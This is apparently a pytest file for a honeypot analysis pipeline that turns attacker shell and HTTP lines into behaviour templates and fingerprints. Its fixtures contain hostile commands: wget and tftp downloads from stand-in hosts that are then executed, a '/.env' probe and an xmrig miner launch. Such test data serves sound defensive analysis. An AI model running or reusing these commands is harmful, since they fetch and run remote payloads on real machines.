"""A template keeps what is done and leaves out whose it is; equal behaviour has one fingerprint in any window."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rustbucket_pipeline.analysis.templates import behaviour_of, shape_of, template_of
from rustbucket_pipeline.analysis.vocabulary import known_words


@pytest.mark.parametrize(
    ("line", "template", "verbs"),
    [
        ("uname -a", "uname -a", ("uname",)),
        (
            "cd /tmp; wget http://203.0.113.9/x.sh; chmod 777 x.sh; ./x.sh",
            "cd /tmp ; wget <url> ; chmod <n> <w> ; ./<w>.sh",
            ("cd", "wget", "chmod", "./<w>.sh"),
        ),
        ("cat /proc/cpuinfo | grep qxz | wc -l", "cat /proc/cpuinfo | grep <w> | wc -l", ("cat", "grep", "wc")),
        ("tftp -g -r qxz 198.51.100.7:69", "tftp -g -r <w> <ip>", ("tftp",)),
        ("GET /.env", "get /.env", ("get",)),
        ("GET /wp-content/plugins/evil/1.php?id=7", "get /wp-content/<w>/<w>/<n>.php?id=<n>", ("get",)),
        ("xq 13 zz yy", "<w> <n> <w>", ("<w>",)),
        ("", "", ()),
    ],
)
def test_a_line_keeps_what_is_done(line: str, template: str, verbs: tuple[str, ...]) -> None:
    assert template_of(line) == (template, verbs)


def test_names_hosts_and_numbers_make_no_other_behaviour() -> None:
    first = behaviour_of("ssh", (), ["uname -a", "wget http://203.0.113.9/a -O /tmp/a", "sh /tmp/a 7"])
    second = behaviour_of("ssh", (), ["uname -a", "wget http://evil.example/b -O /tmp/zz", "sh /tmp/zz 99"])
    assert first == second


@pytest.mark.parametrize(
    ("protocol", "kinds", "lines"),
    [("telnet", (), ["id"]), ("ssh", ("login",), ["id"]), ("ssh", (), ["id", "w"]), ("ssh", (), ["w"])],
)
def test_another_protocol_order_or_step_is_another_behaviour(
    protocol: str, kinds: tuple[str], lines: list[str]
) -> None:
    assert behaviour_of(protocol, kinds, lines).fingerprint != behaviour_of("ssh", (), ["id"]).fingerprint


def test_words_of_a_rule_stay_so_that_a_template_is_as_telling_as_its_line() -> None:
    assert "xmrig" in template_of("nohup ./xmrig -k &")[0]


def test_repetitions_count_once_and_the_shape_knows_no_order() -> None:
    assert behaviour_of("ssh", (), ["id", "id", "id", "w"]) == behaviour_of("ssh", (), ["id", "w"])
    shapes = {shape_of("ssh", behaviour_of("ssh", (), lines).verbs) for lines in (["id", "w"], ["w", "id"])}
    assert len(shapes) == 1


@given(st.text(max_size=300))
def test_nothing_of_an_attacker_s_own_words_is_in_a_template(line: str) -> None:
    words = {word.strip("-./~?=&%+:,'\"\\") for word in template_of(line)[0].replace("<w>", " ").split()}
    for word in words:
        letters = "".join(character if character.isalnum() or character in "_-" else " " for character in word).split()
        assert all(part.lower() in known_words() or len(part) <= 4 or part in {"url", "ip", "n"} for part in letters)


@pytest.mark.parametrize("line", ["a" * 50_000 + "!", "/" * 50_000, "-" * 50_000, "1." * 25_000, "a://" * 12_000])
def test_a_hostile_line_takes_no_time(line: str) -> None:
    begun = time.perf_counter()
    template, _ = template_of(line)
    assert time.perf_counter() - begun < 0.05
    assert len(template) < 2_500
